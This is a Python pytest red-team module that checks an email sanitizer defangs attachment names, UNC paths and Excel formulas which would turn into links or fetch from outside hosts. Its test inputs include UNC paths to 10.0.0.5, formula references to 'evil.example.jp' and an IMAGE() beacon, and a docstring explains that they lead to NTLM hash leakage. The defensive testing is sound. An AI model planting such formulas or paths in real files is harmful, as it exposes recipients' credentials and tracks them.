"""Red team, links: what a client still turns into a link, or fetches by itself.

Over real SMTP with the default policy; the judge is the independent linkifier of
``tests/text/linkify.py`` and, for Office files, a direct reading of the rebuilt XML. See
``tests/integration/test_redteam_attachments.py`` for the conventions (strict xfail = an open
finding of ``/work/helpers/redteam-findings.md``).
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator

import openpyxl
import pytest

from tests.helpers import hostile
from tests.helpers.redteam import (
    RedTeamChain,
    all_live_links,
    leaves,
    notice_of,
    plain,
    with_attachment,
)
from tests.text.linkify import live_links

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def chain(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RedTeamChain]:
    with RedTeamChain(tmp_path_factory.mktemp("redteam-links")) as running:
        yield running


_SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c" + b"\0" * 32  # stripped by policy, named in the notice


@pytest.mark.parametrize(
    "filename",
    ["www.evil-example.jp.7z", "\\\\10.0.0.5\\share.7z", "ｈｔｔｐｓ：／／ｅｖｉｌ．ｊｐ／ａ.7z"],
    ids=["www-name", "unc-name", "full-width-url-name"],
)
def test_attachment_names_in_the_notice_are_not_links(chain: RedTeamChain, filename: str):
    """RT-03. The notice, the first thing the recipient reads, quotes each attachment's name
    as sent. A name that is a URL or a UNC path is a live link there (Outlook linkifies
    ``www.`` and ``\\\\server``), while every other text of the message is defanged."""
    outcome = chain.send(with_attachment(filename, _SEVEN_ZIP))
    notice = notice_of(outcome.message)
    assert "7z" in notice  # the stripped file is named
    assert live_links(notice) == [], notice


@pytest.mark.parametrize(
    "path",
    ["\\\\?\\UNC\\10.0.0.5\\share\\a.exe", "\\\\;LanmanRedirector\\10.0.0.5\\share\\a.exe"],
    ids=["win32-long-unc", "redirector-unc"],
)
def test_long_form_unc_paths_are_defanged(chain: RedTeamChain, path: str):
    r"""RT-08. ``\\10.0.0.5\share`` becomes ``[\][\]10[.]0[.]0[.]5``; the Win32 long form
    ``\\?\UNC\host\share`` and the redirector form reach SMB the same way and stay as sent."""
    outcome = chain.send(plain(f"共有フォルダ: {path}\n"))
    [copy] = outcome.delivered
    body = "\n".join(text for text in _texts_after_notice(copy))
    assert "10.0.0.5" not in body, body


def _texts_after_notice(data: bytes) -> list[str]:
    from tests.helpers.redteam import texts

    return [t.split("─" * 10)[-1] for t in texts(data)]


def _workbook(formula: str) -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"] = "集計"
    book.active["A2"] = formula
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "formula",
    [
        "='\\\\10.0.0.5\\share\\[book.xlsx]Sheet1'!A1",
        "='https://evil.example.jp/[book.xlsx]Sheet1'!A1",
        '=IMAGE("https://evil.example.jp/beacon.png")',
    ],
    ids=["unc-external-reference", "http-external-reference", "image-function"],
)
def test_workbook_formulas_that_fetch_from_outside_are_removed(chain: RedTeamChain, formula: str):
    """RT-09. External links are removed when they are parts (``externalLink``), and
    ``WEBSERVICE``/``HYPERLINK`` formulas are removed, but a path-qualified reference typed
    into a formula and Excel 365's ``IMAGE()`` stay; the notice says "no dangerous elements".
    Excel resolves the reference when links are updated (SMB to the UNC host: NTLM hash) and
    IMAGE fetches its URL on recalculation."""
    outcome = chain.send(with_attachment("集計.xlsx", _workbook(formula)))
    [copy] = outcome.delivered
    for _part, payload in leaves(copy):
        if payload[:2] != b"PK":
            continue
        with zipfile.ZipFile(io.BytesIO(payload)) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    xml = archive.read(name).decode()
                    formulas = re.findall(r"<f>(.*?)</f>", xml)
                    assert not any("10.0.0.5" in f or "evil.example" in f for f in formulas), (
                        formulas
                    )


def test_plain_unc_path_is_defanged(chain: RedTeamChain):
    """Control for RT-08 (passes today)."""
    outcome = chain.send(plain("共有フォルダ: \\\\10.0.0.5\\share\\a.exe\n"))
    assert all_live_links(outcome.message) == []


def test_benign_pdf_link_control(chain: RedTeamChain):
    """Control: a PDF with a URL on its page is delivered (the oracle tests live elsewhere)."""
    outcome = chain.send(with_attachment("報告.pdf", hostile.benign_pdf(pages=1)))
    assert not outcome.was_held
